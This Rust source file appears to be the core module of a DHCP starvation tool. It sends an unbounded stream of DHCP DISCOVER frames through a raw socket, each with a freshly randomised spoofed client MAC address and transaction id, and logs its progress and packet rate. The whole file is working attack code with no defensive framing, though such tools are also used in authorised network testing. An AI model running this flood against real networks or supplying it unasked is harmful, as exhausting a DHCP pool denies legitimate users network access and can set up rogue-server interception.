//! The DISCOVER flood loop.

use std::io;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use tracing::{debug, info};

use crate::error::{Error, Result};
use crate::mac::MacAddress;
use crate::packet::EthernetFrame;

/// Where serialized frames go. A raw socket in production, a recorder in tests.
pub trait FrameSink {
    fn send_frame(&mut self, frame: &[u8]) -> io::Result<()>;
}

impl<S: FrameSink + ?Sized> FrameSink for &mut S {
    fn send_frame(&mut self, frame: &[u8]) -> io::Result<()> {
        (**self).send_frame(frame)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FloodConfig {
    /// Stop after this many frames. `None` floods until cancelled or a send fails.
    pub max_frames: Option<u64>,
    /// Pin the transaction id instead of drawing a fresh one per frame.
    pub transaction_id: Option<u32>,
    /// Emit a progress event every this many frames. Zero disables it.
    pub report_every: u64,
}

impl Default for FloodConfig {
    fn default() -> Self {
        Self {
            max_frames: None,
            transaction_id: None,
            report_every: 10_000,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FloodStats {
    pub frames_sent: u64,
    pub elapsed: Duration,
}

impl FloodStats {
    pub fn pps(&self) -> f64 {
        let secs = self.elapsed.as_secs_f64();
        if secs > 0.0 {
            self.frames_sent as f64 / secs
        } else {
            0.0
        }
    }
}

/// Seeds a generator once from the wall clock's nanosecond count.
pub fn clock_seeded_rng() -> StdRng {
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos() as u64)
        .unwrap_or_default();
    StdRng::seed_from_u64(nanos)
}

/// Sends one DISCOVER per iteration, each from a fresh spoofed client.
pub struct Flooder<S, R = StdRng> {
    frame: EthernetFrame,
    sink: S,
    rng: R,
    config: FloodConfig,
    buf: [u8; EthernetFrame::LEN],
}

impl<S: FrameSink> Flooder<S> {
    pub fn new(frame: EthernetFrame, sink: S, config: FloodConfig) -> Self {
        Self::with_rng(frame, sink, config, clock_seeded_rng())
    }
}

impl<S: FrameSink, R: Rng> Flooder<S, R> {
    pub fn with_rng(mut frame: EthernetFrame, sink: S, config: FloodConfig, rng: R) -> Self {
        if let Some(xid) = config.transaction_id {
            frame.set_transaction_id(xid);
        }
        Self {
            frame,
            sink,
            rng,
            config,
            buf: [0u8; EthernetFrame::LEN],
        }
    }

    pub fn into_sink(self) -> S {
        self.sink
    }

    /// Spoofs a new identity into the frame and sends it once.
    pub fn send_next(&mut self) -> io::Result<MacAddress> {
        let mac = MacAddress::random_unicast(&mut self.rng);
        self.frame.set_client_mac(mac);
        if self.config.transaction_id.is_none() {
            self.frame.set_transaction_id(self.rng.random());
        }

        self.frame.write_to(&mut self.buf);
        self.sink.send_frame(&self.buf)?;
        Ok(mac)
    }

    /// Floods until `max_frames` is reached, `cancel` is set, or a send fails.
    ///
    /// `cancel` is checked before every frame. The first failed send ends
    /// the run; nothing is retried.
    pub fn run(&mut self, cancel: &AtomicBool) -> Result<FloodStats> {
        let start = Instant::now();
        let mut sent = 0u64;

        info!(
            limit = ?self.config.max_frames,
            fixed_xid = ?self.config.transaction_id,
            "starting DHCP DISCOVER flood"
        );

        while !cancel.load(Ordering::Relaxed) {
            if self.config.max_frames.is_some_and(|max| sent >= max) {
                break;
            }

            let mac = self
                .send_next()
                .map_err(|source| Error::Send { sent, source })?;
            sent += 1;

            debug!(%mac, xid = self.frame.transaction_id(), "sent DISCOVER");
            if self.config.report_every != 0 && sent % self.config.report_every == 0 {
                info!(sent, elapsed = ?start.elapsed(), "flood progress");
            }
        }

        let stats = FloodStats {
            frames_sent: sent,
            elapsed: start.elapsed(),
        };
        info!(sent = stats.frames_sent, pps = stats.pps(), "flood stopped");
        Ok(stats)
    }
}
